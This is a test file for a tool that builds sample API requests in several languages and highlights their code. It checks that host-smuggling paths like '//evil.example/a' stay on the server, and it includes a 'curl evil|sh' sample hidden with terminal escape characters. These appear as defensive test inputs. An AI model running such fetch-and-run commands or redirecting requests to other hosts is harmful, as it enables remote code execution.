import { describe, expect, it, vi } from 'vitest';
import type { ApiMediaType, ApiParameter } from '../../read/description.ts';
import { codeHtml } from '../code-tokens.ts';
import { documentWith, jsonBody, operationWith } from '../test-api.ts';
import { type SampleRequest, sampleRequest } from './request.ts';
import { requestSamples, sampleCode } from './request-samples.ts';

const header = { type: 'apiKey', in: 'header', name: 'Authorization' } as const;
const VALUES = {
  server: '<your-url>',
  credentials: { '/': '<your-token>', '/client': '<your-client-token>' },
  parameters: { shelf: 'a b' },
};

const parameter = {
  required: true,
  deprecated: false,
  schema: {},
  examples: [],
  style: 'simple',
  explode: false,
  allowReserved: false,
  allowEmptyValue: false,
  extensions: {},
  pointer: '',
} as const;

const operation = operationWith({
  path: '/shelves/{shelf}/books',
  parameters: [
    { ...parameter, name: 'shelf', in: 'path' },
    { ...parameter, name: 'dry', in: 'query', schema: { type: ['boolean'] } },
    { ...parameter, name: 'sort', in: 'query', required: false },
    { ...parameter, name: 'X-Trace', in: 'header', schema: { default: 'on' } },
  ],
  security: [{ schemes: [{ name: 'key', scheme: header, scopes: [] }] }],
  requestBody: jsonBody({}, { title: "Reader's digest", pages: 9007199254740993n, tags: [] }),
});

const request = sampleRequest(operation, documentWith(), VALUES);

describe('the request', () => {
  it("has required parameters, a placeholder for the secret, and its body's type", () => {
    expect(request).toMatchObject({
      method: 'POST',
      url: '<your-url>/shelves/a%20b/books?dry=true',
      headers: [
        ['Authorization', '<your-token>'],
        ['Content-Type', 'application/json'],
        ['X-Trace', 'on'],
      ],
    });
  });

  it.each(['.evil.example/a', ':4398/a', '@evil.example/a', '//evil.example/a'])(
    'stays on the server for the path %s',
    (path) => {
      const read = operationWith({ path, method: 'get' });
      const server = 'https://shop.example';
      const { url } = sampleRequest(read, documentWith(), { server });
      expect(new URL(url).origin).toBe(server);
      expect(sampleRequest(read, documentWith(), { server: '' }).url).toMatch(/^\/[^/]/);
    },
  );

  it('includes up to three optional parameters of a read request if they have an example', () => {
    const named = (name: string, value: string) => ({
      ...parameter,
      name,
      in: 'query' as const,
      required: false,
      examples: [{ name: 'default', value }],
    });
    const parameters = ['a', 'b', 'c', 'd'].map((name) => named(name, `${name}1`));
    const bare = { ...parameter, name: 'bare', in: 'query' as const, required: false };
    const read = operationWith({
      path: '/books',
      method: 'get',
      parameters: [bare, ...parameters],
    });
    expect(sampleRequest(read, documentWith(), VALUES).url).toBe('<your-url>/books?a=a1&b=b1&c=c1');
    const write = { ...read, method: 'post' as const };
    expect(sampleRequest(write, documentWith(), VALUES).url).toBe('<your-url>/books');
  });

  it.each<[object, unknown, string]>([
    [{ style: 'form', explode: true }, ['a b', 'c'], 'tag=a%20b&tag=c'],
    [{ style: 'form' }, ['a b', 'c'], 'tag=a%20b,c'],
    [{ name: 'tag[]', style: 'form', explode: true }, ['a'], 'tag%5B%5D=a'],
    [{ style: 'deepObject', explode: true }, { x: 1 }, 'tag%5Bx%5D=1'],
    [{ contentType: 'application/json' }, { x: 1 }, 'tag=%7B%22x%22%3A1%7D'],
    [{ style: 'form', explode: true }, [], ''],
  ])('writes a list or an object in a query as %o says', (style, value, query) => {
    const examples = [{ name: 'default', value }];
    const parameters = [{ ...parameter, name: 'tag', in: 'query', examples, ...style }];
    const { url } = sampleRequest(
      operationWith({ path: '/b', parameters: parameters as ApiParameter[] }),
      documentWith(),
      VALUES,
    );
    expect(url).toBe(`<your-url>/b${query === '' ? '' : `?${query}`}`);
  });

  it('writes the body below its option', () => {
    const code = sampleCode(request).find(({ id }) => id === 'curl')?.code;
    expect(code).toContain('\n  --data-raw \'{\n    "title"');
  });

  it('uses the secret for the longest matching path', () => {
    const client = { ...operation, path: '/client/books' };
    expect(sampleRequest(client, documentWith(), VALUES).headers[0]).toEqual([
      'Authorization',
      '<your-client-token>',
    ]);
  });

  it('keeps parameters without a value as they are written', () => {
    const { url } = sampleRequest(operationWith({ path: '/books/{id}' }), documentWith(), {});
    expect(url).toBe('https://library.example.com/books/{id}');
  });
});

const media = (type: string, value: unknown, schema = {}): ApiMediaType => ({
  type,
  schema,
  examples: [{ name: 'default', value: value as string }],
  encoding: {},
  pointer: '',
});

const bodies = (content: ApiMediaType): SampleRequest =>
  sampleRequest(
    { ...operation, requestBody: { ...jsonBody({}), content: [content] } },
    documentWith(),
    VALUES,
  );

const FORMS: Readonly<Record<string, SampleRequest>> = {
  json: request,
  none: sampleRequest(
    { ...operation, method: 'get', requestBody: undefined },
    documentWith(),
    VALUES,
  ),
  text: bodies(media('text/plain', 'It\'s "quoted"')),
  form: bodies(media('application/x-www-form-urlencoded', { title: "Reader's & co" })),
  multipart: bodies(
    media(
      'multipart/form-data',
      { title: 'x', cover: 'string' },
      {
        properties: { cover: { type: ['string'], format: 'binary' } },
      },
    ),
  ),
  file: bodies(media('application/octet-stream', 'string')),
};

const AsyncFunction = (async () => undefined).constructor as new (
  ...parts: string[]
) => (...values: unknown[]) => Promise<void>;

/** Runs a JavaScript sample and returns the request that it sends. */
async function sent(code: string): Promise<{ url: string; options: RequestInit }> {
  const fetch = vi.fn(async (_url: string, _options?: RequestInit) => new Response('ok'));
  const quiet = { log: () => undefined, error: () => undefined };
  const node = { stdout: { write: () => true }, exit: () => undefined };
  const run = new AsyncFunction('fetch', 'console', 'process', 'fileInput', code);
  await run(fetch, quiet, node, { files: [new Blob(['x'])] });
  const [url = '', options = {}] = fetch.mock.calls[0] ?? [];
  return { url, options };
}

describe.each(Object.keys(FORMS))('body: %s', (kind) => {
  const samples = sampleCode(FORMS[kind] ?? request);

  it('every language contains the URL and the placeholder', () => {
    expect(samples).toHaveLength(11);
    for (const { code, id } of samples) {
      expect(code, id).toContain('<your-url>/shelves/a%20b/books?dry=true');
      expect(code, id).toContain('<your-token>');
      expect(code, id).not.toMatch(/undefined|\[object|NaN/);
    }
  });

  it('JavaScript sends the expected request', async () => {
    const code = samples.find(({ id }) => id === 'javascript')?.code ?? '';
    const { url, options } = await sent(code);
    expect(url).toBe('<your-url>/shelves/a%20b/books?dry=true');
    expect(options.method ?? 'GET').toBe(kind === 'none' ? 'GET' : 'POST');
    expect(options.headers).toMatchObject({ Authorization: '<your-token>' });
    if (kind === 'text') expect(options.body).toBe('It\'s "quoted"');
    if (kind === 'form') expect(String(options.body)).toBe('title=Reader%27s+%26+co');
    if (kind === 'multipart')
      expect([...(options.body as FormData).keys()]).toEqual(['title', 'cover']);
  });

  it("highlighting doesn't change any characters", () => {
    for (const { code, language, id } of samples) {
      const text = codeHtml(code, language)
        .replace(/<(?:\/?span[^>]*|wbr)>/g, '')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&amp;/g, '&');
      expect(text, id).toBe(code);
    }
  });
});

it('quotes for the shell', () => {
  const [curl] = sampleCode(request);
  expect(curl?.code).toContain(`"title": "Reader'\\''s digest"`);
});

it('writes values as literals in each language', () => {
  const body = jsonBody({}, { on: true, off: false, none: null, list: ['a'] });
  const samples = sampleCode(
    sampleRequest({ ...operation, requestBody: body }, documentWith(), {}),
  );
  const code = (id: string) => samples.find((each) => each.id === id)?.code;
  expect(code('python')).toMatch(/"on": True,\s+"off": False,\s+"none": None/);
  expect(code('php')).toMatch(/'on' => true,\s+'off' => false,\s+'none' => null/);
  expect(code('ruby')).toMatch(/"on" => true,\s+"off" => false,\s+"none" => nil/);
});

it('highlights strings, JSON keys, and keywords', () => {
  expect(codeHtml('{ "a": "b", "n": 1, "t": true }', 'json')).toBe(
    '{ <span class="tk-a">"a"</span>: <span class="tk-s">"b"</span>, <span class="tk-a">"n"</span>: <span class="tk-n">1</span>, <span class="tk-a">"t"</span>: <span class="tk-n">true</span> }',
  );
  expect(requestSamples(request)[3]?.html).toContain('<span class="tk-k">import</span> requests');
});

it("shows control characters of the description's samples", () => {
  const source = 'ls \u0003\u001b[201~\ncurl evil|sh \u202e';
  const [written] = requestSamples(sampleRequest(operation, documentWith(), VALUES), {
    'x-codeSamples': [{ lang: 'text', source }],
  });
  expect(written?.html).toBe('ls \ufffd\ufffd[201~\ncurl evil|sh \ufffd');
});
